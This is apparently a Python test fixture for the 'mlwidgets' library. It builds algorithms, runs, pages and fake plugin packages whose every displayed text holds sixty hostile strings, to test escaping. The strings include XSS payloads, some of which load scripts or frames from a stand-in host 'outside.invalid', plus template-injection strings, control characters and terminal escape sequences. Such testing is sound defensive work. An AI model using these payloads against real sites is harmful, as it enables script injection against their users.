"""Sixty hostile strings, and a run that has them in every place that shows text."""

from __future__ import annotations

import string
from pathlib import Path
from typing import Annotated, Any, Literal, TypedDict, cast

import numpy as np

from mlwidgets import Array, Frames, Grid, Live, Text
from mlwidgets.algorithms import Algorithm
from mlwidgets.inputs import GridKind
from mlwidgets.page import Equation, Page, Try
from mlwidgets.references import Reference
from mlwidgets.replay.branch import sibling
from mlwidgets.run import Run
from mlwidgets.views import View

# What is executed calls hit(); what is fetched goes to this host.
OUT = "http://outside.invalid"
EXECUTING = (
    "<script>top.hit()</script>",
    "<ScRiPt>top.hit()</sCrIpT>",
    f"<script src='{OUT}/a.js'></script>",
    "</script><script>top.hit()</script>",
    "]]></script><script>top.hit()</script>",
    "--></style></script><img src=x onerror=top.hit()>",
    "<img src=x onerror=top.hit()>",
    f"<img src={OUT}/b.png>",
    "<img src=x:x onerror='top.hit()'>",
    "<svg onload=top.hit()>",
    "<svg><script>top.hit()</script></svg>",
    "<svg><animate onbegin=top.hit() attributeName=x dur=1s>",
    f"<svg><image href='{OUT}/c.png'/></svg>",
    f"<svg><use href='{OUT}/d.svg#x'/></svg>",
    "<svg><style>@import url(http://outside.invalid/e.css)</style></svg>",
    "<math><mtext><img src=x onerror=top.hit()></mtext></math>",
    "<details open ontoggle=top.hit()>",
    "<body onload=top.hit()>",
    "<video><source onerror=top.hit()></video>",
    "<audio src=x onerror=top.hit()>",
    "<input autofocus onfocus=top.hit()>",
    "<iframe srcdoc='<script>top.hit()</script>'></iframe>",
    "<iframe src='javascript:top.hit()'></iframe>",
    f"<iframe src='{OUT}/f.html'></iframe>",
    f"<object data='{OUT}/g.swf'></object>",
    f"<link rel=stylesheet href='{OUT}/h.css'>",
    f"<meta http-equiv=refresh content='0;url={OUT}/i'>",
    f"<base href='{OUT}/'>",
    '"><img src=x onerror=top.hit()>',
    "'><img src=x onerror=top.hit()>",
    '" onmouseover=top.hit() autofocus onfocus=top.hit() x="',
    "' style='animation:x' onanimationstart='top.hit()",
    "`><img src=x onerror=top.hit()>",
    "</title><img src=x onerror=top.hit()>",
    "</style><img src=x onerror=top.hit()>",
    "</textarea><img src=x onerror=top.hit()>",
    "</option></select><img src=x onerror=top.hit()>",
    "</text></svg><img src=x onerror=top.hit()>",
    "<noscript><p title='</noscript><img src=x onerror=top.hit()>'>",
    "<a href='javascript:top.hit()' id=clickme>press</a>",
    "&lt;img src=x onerror=top.hit()&gt;",
    "&#60;script&#62;top.hit()&#60;/script&#62;",
    "\\u003cscript\\u003etop.hit()\\u003c/script\\u003e",
)
BREAKING = (
    '";top.hit();//',
    "';top.hit();//",
    "${top.hit()}",
    "{{constructor.constructor('top.hit()')()}}",
    '"}]};top.hit();[{"',
    "\u2028top.hit()\u2029",
    "\\unicode{<img src=x onerror=top.hit()>}",
    "$\\href{javascript:top.hit()}{x}$",
    "\\end{document} \\(x\\) $$y$$ %",
    "{a} {0} %s %(x)s {alpha!r}",
    "\u202eevil\u202d \u2066right\u2069 \u200f",
    "a\0b\x01c\x08d\x1be\x7f",
    "lone \ud800 surrogate \udfff",
    "\x1b]8;;http://outside.invalid\x07link\x1b]8;;\x07 \x1b[31mred",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307 \u200b\u200d\ufeff zero",
    "<!-- top.hit()",
    "<textarea><plaintext>",
)
STRINGS = (*EXECUTING, *BREAKING)
assert len(STRINGS) == len(set(STRINGS)) == 60

GROUPS = 6
BETWEEN = " · "


def group(n: int) -> tuple[str, ...]:
    """Every sixth string: those that would swallow what follows come last."""
    return STRINGS[n::GROUPS]


def joined(texts: tuple[str, ...]) -> str:
    return BETWEEN.join(texts)


def names_of(texts: tuple[str, ...]) -> list[str]:
    """Columns of numbers; every second is called by its name, the others by words."""
    return [f"{text} n" for text in texts if "\ud800" not in text]  # a name is whole


def axis_of(texts: tuple[str, ...]) -> str:
    """A word for an axis; it has no blanks."""
    return "".join(joined(texts).split())


def algorithm(texts: tuple[str, ...]) -> Algorithm[Any, Any]:
    """Ten of them in every place that an author's text can reach."""
    whole = joined(texts)
    numbers = names_of(texts)

    kinds: dict[str, Any] = dict.fromkeys(numbers, float) | {
        "said": str,
        "tokens": list[str],
        "bars": Array,
    }
    kinds["matrix"] = Annotated[Array, f"{axis_of(texts)} {axis_of(texts)}"]
    columns = cast("Any", TypedDict)("columns", {**kinds, "worth": Array})
    squares = string.ascii_letters[: len(texts)]

    def hostile(
        word: str, body: Text, choice: str, wrong: bool, world: Grid
    ) -> Frames[dict[str, Any]]:
        for k in range(6):
            if wrong and k == 5:
                raise ValueError(whole)
            yield {
                **dict.fromkeys(numbers, k / 3),
                "said": whole,
                "tokens": list(texts),
                "bars": np.arange(len(texts)) + k,
                "matrix": np.outer(np.arange(len(texts)), np.arange(len(texts))) * k,
                "worth": np.outer(np.arange(2 * len(texts)), [k, 1]),
            }

    hostile.__defaults__ = (whole, whole, texts[0], False, Grid(squares, squares[::-1]))
    hostile.__annotations__["choice"] = Literal.__getitem__(texts)
    legend = GridKind(dict(zip(squares, texts, strict=True)), once="", some="")
    hostile.__annotations__["world"] = Annotated[Grid, legend]
    hostile.__annotations__["return"] = cast("Any", Frames)[columns]
    hostile.__annotations__.update(word=Annotated[str, whole], body=Text, wrong=bool)
    views = (
        View("line", tuple(numbers[:5]), whole, whole),
        View("values", tuple(numbers), whole),
        View("words", ("said",), whole, whole),
        View("words", ("tokens",), whole),
        View("bars", ("bars",), whole, options={"labels": "tokens"}),
        View("heatmap", ("matrix",), whole, options={"rows": "tokens", "cols": "tokens"}),
        View("heatmap", ("matrix",), whole, whole, options={"signed": False}),
        View("board", ("worth",), whole, whole, options={"grid": "world"}),
    )
    made: Algorithm[Any, Any] = Algorithm(hostile, views, name=texts[0])
    made.__dict__["page"] = Page(
        title=whole,
        summary=whole,
        citation=f"{whole} (2020) doi:10.1/{texts[0]}",
        equations=tuple(Equation(k, text, text) for k, text in enumerate(texts)),
        where=dict.fromkeys(("word", "body", "choice", "said", *numbers[::2]), whole),
        watch=whole,
        tries=tuple(Try("wrong=true", text) for text in texts),
    )
    return made


def run_of(n: int) -> Run:
    """A run of ten of the strings at its last frame, with an error, a note and a parameter."""
    made = Run(algorithm(group(n)), {"wrong": True}).step(4)
    made.step()
    made._core.note = joined(group(n))
    made._core._tell()
    return made


def gallery(texts: tuple[str, ...]) -> Algorithm[Any, Any]:
    """Ten of them in the views that the other one lacks, checked against a reference of theirs."""
    whole, size = joined(texts), len(texts)
    axis = axis_of(texts)
    kinds = {
        "tokens": list[str],
        "said": str,
        "loss": float,
        "A": Annotated[Array, f"{axis} {axis} {axis}"],
        "w": Annotated[Array, axis],
        "x": Annotated[Array, f"{axis} {axis}"],
        "xs": Annotated[Array, f"{axis} row col"],
        "C": Annotated[Array, f"{axis} {axis}"],
    }
    r, c = np.indices((size, size))

    def hostile(rate: Live[float] = 0.5, v: str = "") -> Frames[dict[str, Any]]:
        for k in range(4):
            yield {
                "tokens": list(texts),
                "said": whole,
                "loss": rate / (k + 1),
                "A": np.stack([(r + h + k) % size / size for h in range(size)]),
                "w": np.arange(size) / size,
                "x": (r * c + k) / size**2,
                "xs": np.stack([(r + h + k) % size / size for h in range(size)]),
                "C": (r + c + k) % 7,
            }

    hostile.__annotations__["return"] = cast("Any", Frames)[cast("Any", TypedDict)("seen", kinds)]
    hostile.__annotations__.update(rate=Live[float], v=Annotated[str, whole])
    named = {"heads": "tokens", "says": "said"}
    views = (
        View("heads", ("A",), whole, whole, options=named),
        View("heads", ("A",), whole, whole, options={**named, "mode": "threads"}),
        View("tokens", ("tokens",), whole, whole, options={"weight": "w"}),
        View("image", ("x",), whole, whole),
        View("images", ("xs",), whole, whole, options={"labels": "tokens"}),
        View("confusion", ("C",), whole, whole, options={"labels": [*map(typed, texts)]}),
        View("values", ("C",), whole, whole, options={"rows": [*map(typed, texts)]}),
        View("words", ("said",), whole, whole),
        View("line", ("loss",), whole, whole, options={"predict": True}),
    )
    apart = {typed(text): 0.5 * (k % 2) for k, text in enumerate(texts)}  # every second differs
    reference = Reference(
        of=typed(whole),
        tolerance=dict.fromkeys(apart, 1e-6),
        theirs=lambda _given: apart,
        ours=lambda _given: dict.fromkeys(apart, 0.0),
        random=lambda _rng, _k: {},
    )
    made: Algorithm[Any, Any] = Algorithm(hostile, views, name=texts[0], reference=reference)
    made.__dict__["page"] = Page(
        title=whole,
        summary=whole,
        citation=f"{whole} (2020)",
        equations=tuple(Equation(k, text, text) for k, text in enumerate(texts)),
        where=dict.fromkeys(("rate", "v", "loss"), whole),
        watch=whole,
        tries=(Try("rate=0.1", whole),),
    )
    return made


def gallery_of(n: int) -> Run:
    """A run of it at its end, and beside it one for each string short enough for a label."""
    made = Run(gallery(group(n)), {}).wait()
    for text in short(n):
        sibling(made, {"v": text}, made).wait()
    return made


def short(n: int) -> list[str]:
    """Those that the name of a run among its family has room for."""
    return [text for text in group(n) if text.isprintable() and len(text) < 26][:4]


def typed(text: str) -> str:
    """As a page may hold it: half of a pair is no character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


PLUGIN = """from mlwidgets import hookimpl

{loud}

@hookimpl
def mlwidgets_register(registry):
    registry.topic({topic!r}, {title!r}, extra={title!r})
    registry.algorithm({topic!r} + ".one", "{module}:one")

def one(word: str = {title!r}):
    {docstring!r}
    yield {{"x": 1.0}}
"""


def plain(n: int) -> list[str]:
    """A group's strings as a line of a package's metadata can hold them."""
    kept = (text for text in group(n) if not set(text) & {"\0", "\ud800", "\x1b"})
    return [" ".join(text.split()) for text in kept]


def install(folder: Path) -> None:
    """Distributions whose names, titles, texts and faults are the strings; every second breaks."""
    for n in range(GROUPS):
        texts = plain(n)
        module, title = f"hostile_plugin_{n}", joined(tuple(texts))
        loud = f"raise ValueError({title!r})" if n % 2 else ""
        said = {"title": title, "docstring": f"{texts[0]}: {title}"}
        source = PLUGIN.format(topic=f"hostile{n}", module=module, loud=loud, **said)
        (folder / f"{module}.py").write_text(source, "utf-8")
        info = folder / f"{module}.dist-info"
        info.mkdir()
        metadata = f"Metadata-Version: 2.1\nName: {texts[1]}\nVersion: {texts[2]}\n"
        (info / "METADATA").write_text(metadata, "utf-8")
        entry = f"[mlwidgets]\n{texts[3].replace('=', '-')} = {module}\n"
        (info / "entry_points.txt").write_text(entry, "utf-8")
